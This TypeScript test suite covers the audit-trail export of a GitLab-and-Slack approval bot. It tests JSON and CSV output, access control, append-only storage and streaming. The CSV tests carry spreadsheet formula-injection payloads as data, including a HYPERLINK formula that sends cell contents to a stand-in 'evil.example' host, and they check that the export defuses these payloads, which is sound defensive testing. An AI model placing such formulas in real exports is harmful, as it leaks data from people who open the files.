import http from 'node:http';
import Database from 'better-sqlite3';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { csvField } from '../../src/web/audit.js';
import { spreadsheetCells } from '../support/csv.js';
import { APPROVER, basic, OUTSIDER, sha, startHarness, statusCheck, type Harness } from '../support/harness.js';

interface Exported {
  events: Array<{ id: number; at: string; checkId: number | null; event: string; actor: string | null; via: string | null; sha: string | null; detail: string | null }>;
}

describe('the audit trail', () => {
  let h: Harness;
  beforeEach(async () => {
    h = await startHarness();
  });
  afterEach(async () => {
    await h.stop();
  });

  const get = (path: string, auth: string | null = basic()) => fetch(`${h.bot.url}${path}`, { headers: auth ? { authorization: auth } : {} });

  it('exports every event of a full story, in order, as JSON and CSV', async () => {
    const first = (await h.receive()).body.id as number;
    await h.slack.waitFor('chat.postMessage');
    await h.click(OUTSIDER, 'approve_check', first);
    await h.slack.waitFor('response_url');
    await h.click(APPROVER, 'approve_check', first);
    await h.gitlab.waitForResponses(1);
    await h.slack.waitFor('chat.update', 1, (c) => JSON.stringify(c.body.blocks).includes('Reported to GitLab'));
    // A new push: a second check, and then the merge request is closed before anyone decides.
    const second = (await h.receive(statusCheck({ sha: sha(2) }))).body.id as number;
    await h.slack.waitFor('chat.postMessage', 2);
    await h.receive(statusCheck({ sha: sha(2), state: 'closed' }));
    await h.slack.waitFor('chat.update', 1, (c) => JSON.stringify(c.body.blocks).includes('*closed*'));

    const res = await get('/audit?format=json');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toMatch(/attachment; filename="?audit-.*\.json"?/);
    const { events } = (await res.json()) as Exported;
    const story = (id: number) => events.filter((e) => e.checkId === id).map((e) => e.event);
    expect(story(first)).toEqual(['received', 'card_posted', 'clicked', 'refused', 'clicked', 'approved', 'reported']);
    expect(story(second)).toEqual(['received', 'card_posted', 'closed']);
    const refused = events.find((e) => e.event === 'refused');
    expect(refused).toMatchObject({ actor: OUTSIDER.toLowerCase(), via: 'slack', sha: '9f2c4e1b7a3d5c6e8f0a1b2c3d4e5f60718293a4' });
    expect(refused!.detail).toContain('not one of the approvers');
    expect(events.find((e) => e.event === 'approved')).toMatchObject({ actor: APPROVER.toLowerCase(), via: 'slack' });
    expect(events.find((e) => e.event === 'reported')!.detail).toBe('passed');
    // In time order, ids rising.
    expect(events.map((e) => e.id)).toEqual([...events.map((e) => e.id)].sort((a, b) => a - b));

    const csv = await get('/audit?format=csv');
    expect(csv.headers.get('content-type')).toContain('text/csv');
    const lines = (await csv.text()).trim().split('\r\n');
    expect(lines[0]).toBe('id,at,check_id,event,actor,via,sha,detail');
    expect(lines).toHaveLength(events.length + 1);
    expect(lines.filter((l) => l.includes(',refused,'))).toHaveLength(1);
  });

  it('limits the export to a time range and refuses bad ranges', async () => {
    await h.receive();
    const future = await get('/audit?format=json&from=2099-01-01&to=2100-01-01');
    expect(((await future.json()) as Exported).events).toEqual([]);
    const past = await get('/audit?format=json&from=2000-01-01&to=2099-01-01');
    expect(((await past.json()) as Exported).events.map((e) => e.event)).toContain('received');
    for (const bad of ['from=yesterday', 'to=2026-13-45', 'from=2026-11-02&to=2026-11-01', 'format=xml']) {
      const res = await get(`/audit?${bad}`);
      expect(res.status, bad).toBe(400);
      expect(((await res.json()) as { error: string }).error).toMatch(/from|to|format/);
    }
  });

  it('is for signed-in people only', async () => {
    expect((await get('/audit', null)).status).toBe(401);
    expect((await get('/audit', basic('alice', 'wrong-password-123'))).status).toBe(401);
  });

  it('shows a check’s history on the web list', async () => {
    const id = (await h.receive(statusCheck({ title: 'Ship <b>it</b>' }))).body.id as number;
    await h.slack.waitFor('chat.postMessage');
    const page = await get(`/checks/${id}`);
    expect(page.status).toBe(200);
    const html = await page.text();
    expect(html).toContain('Ship &lt;b&gt;it&lt;/b&gt;');
    expect(html).toMatch(/GitLab asked for a decision[\s\S]*Card posted to Slack channel C0APPROVALS/);
    expect(html).not.toContain('card_posted');
    expect((await get('/checks/9999')).status).toBe(404);
    expect(await (await get('/')).text()).toContain(`/checks/${id}">History</a>`);
  });

  it('cannot be changed or deleted, even with the database in hand', async () => {
    await h.receive();
    const db = new Database(h.env.DATABASE_PATH!);
    try {
      expect(() => db.prepare(`UPDATE audit_event SET actor = 'someone else'`).run()).toThrow(/append-only/);
      expect(() => db.prepare('DELETE FROM audit_event').run()).toThrow(/append-only/);
    } finally {
      db.close();
    }
  });

  it('streams a large export while the bot goes on answering GitLab, in the same bytes as ever', async () => {
    const id = (await h.receive()).body.id as number;
    const db = new Database(h.env.DATABASE_PATH!);
    const start = Date.now() - 60 * 60_000;
    const count = 30_000;
    try {
      const insert = db.prepare('INSERT INTO audit_event (at, check_id, event, actor, via, sha, detail) VALUES (?, ?, ?, ?, ?, ?, ?)');
      db.transaction(() => {
        for (let i = 0; i < count; i += 1) insert.run(new Date(start + i).toISOString(), id, 'clicked', `u${i}`, 'slack', sha(1), `=HYPERLINK("x"), ${'y'.repeat(400)}`);
      })();
    } finally {
      db.close();
    }

    // One range for both exports, past what this test writes however slow the machine: the
    // default (until a second after the request) would leave out events written meanwhile.
    const to = new Date(Date.now() + 60 * 60_000).toISOString();
    // A client that reads the first bytes and then stops: far more than the socket buffers hold is left.
    const { response, first } = await new Promise<{ response: http.IncomingMessage; first: Buffer }>((resolve, reject) => {
      http
        .get(`${h.bot.url}/audit?check=${id}&format=json&to=${to}`, { headers: { authorization: basic() } }, (res) => {
          res.once('data', (chunk: Buffer) => {
            res.pause();
            resolve({ response: res, first: chunk });
          });
        })
        .on('error', reject);
    });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/json; charset=utf-8');
    // Streamed: the length is not known before the last row is read.
    expect(response.headers['content-length']).toBeUndefined();
    expect(response.headers['transfer-encoding']).toBe('chunked');

    // Meanwhile GitLab's calls are written and answered.
    expect((await h.receive(statusCheck({ sha: sha(2) }))).status).toBe(202);

    const chunks = [first];
    response.on('data', (chunk: Buffer) => chunks.push(chunk));
    await new Promise((resolve) => response.once('end', resolve).resume());
    const text = Buffer.concat(chunks).toString('utf8');
    const body = JSON.parse(text) as Exported & Record<string, unknown>;
    expect(text).toBe(JSON.stringify(body));
    expect(Object.keys(body)).toEqual(['from', 'to', 'check', 'events']);
    expect(body.check).toBe(id);
    const seeded = body.events.filter((e) => e.event === 'clicked');
    expect(seeded).toHaveLength(count);
    expect(seeded.map((e) => e.actor)).toEqual(Array.from({ length: count }, (_, i) => `u${i}`));

    const csv = await (await get(`/audit?check=${id}&to=${to}`)).text();
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe('id,at,check_id,event,actor,via,sha,detail');
    expect(lines.at(-1)).toBe('');
    expect(lines).toHaveLength(body.events.length + 2);
    const row = lines.find((l) => l.includes(',u7,')) as string;
    expect(row.endsWith(`,"'=HYPERLINK(""x""), ${'y'.repeat(400)}"`)).toBe(true);
  });

  it('defuses spreadsheet formulas and quotes separators in CSV', () => {
    expect(csvField('=HYPERLINK("http://evil")')).toBe(`"'=HYPERLINK(""http://evil"")"`);
    expect(csvField('+1')).toBe("'+1");
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('line\nbreak')).toBe('"line\nbreak"');
    expect(csvField(null)).toBe('');
    expect(csvField(42)).toBe('42');
  });
});

describe('the CSV export is safe to open in any spreadsheet', () => {
  let h: Harness;
  beforeEach(async () => {
    h = await startHarness();
  });
  afterEach(async () => {
    await h.stop();
  });

  const FORMULA = /^[=+\-@\t\r]/;
  const ATTACKS = [';=HYPERLINK("http://evil.example/?"&A1,"details")', 'fine\t=1+1', 'x;+SUM(1)', 'a,@cmd', '-2+3', ' =1'];

  it('no cell becomes a formula whether the spreadsheet splits on commas, semicolons or tabs', async () => {
    const id = (await h.receive()).body.id as number;
    await h.slack.waitFor('chat.postMessage');
    await h.submitReject(APPROVER, id, ATTACKS.join('\n'));
    await h.gitlab.waitForResponses(1);
    const res = await fetch(`${h.bot.url}/audit?format=csv`, { headers: { authorization: basic() } });
    expect(res.status).toBe(200);
    const text = await res.text();
    expect(text).toContain('HYPERLINK');
    for (const delimiter of [',', ';', '\t']) {
      const rows = spreadsheetCells(text, delimiter);
      expect(rows.length, delimiter).toBeGreaterThan(2);
      for (const cell of rows.flat()) expect(FORMULA.test(cell.trimStart()), `${JSON.stringify(delimiter)}: ${cell}`).toBe(false);
    }
    // With the comma it was written for, the reason is one cell and reads as written, quote marks aside.
    const rejected = spreadsheetCells(text, ',').find((r) => r[3] === 'rejected') as string[];
    expect(rejected).toHaveLength(8);
    expect(rejected[7]!.replace(/'/g, '')).toBe(ATTACKS.join('\n'));
  });
});

describe('one CSV cell', () => {
  it.each([
    [';=HYPERLINK("x")', `";'=HYPERLINK(""x"")"`],
    ['fine, -1', `"fine, '-1"`],
    ['one\n@two', `"one\n'@two"`],
    ['a;b', '"a;b"'],
    ['a\tb', '"a\tb"'],
    ['=1', "'=1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', `"\t'=1"`],
    ['\r=1', `"\r'=1"`],
    ['\tplain', `"'\tplain"`],
    [';\u00a0=1', `";\u00a0'=1"`],
    ['  =1', "  '=1"],
    ['-', "'-"],
    ['plain text', 'plain text'],
    ['', ''],
  ])('%j is written %j', (value, written) => {
    expect(csvField(value)).toBe(written);
  });
});
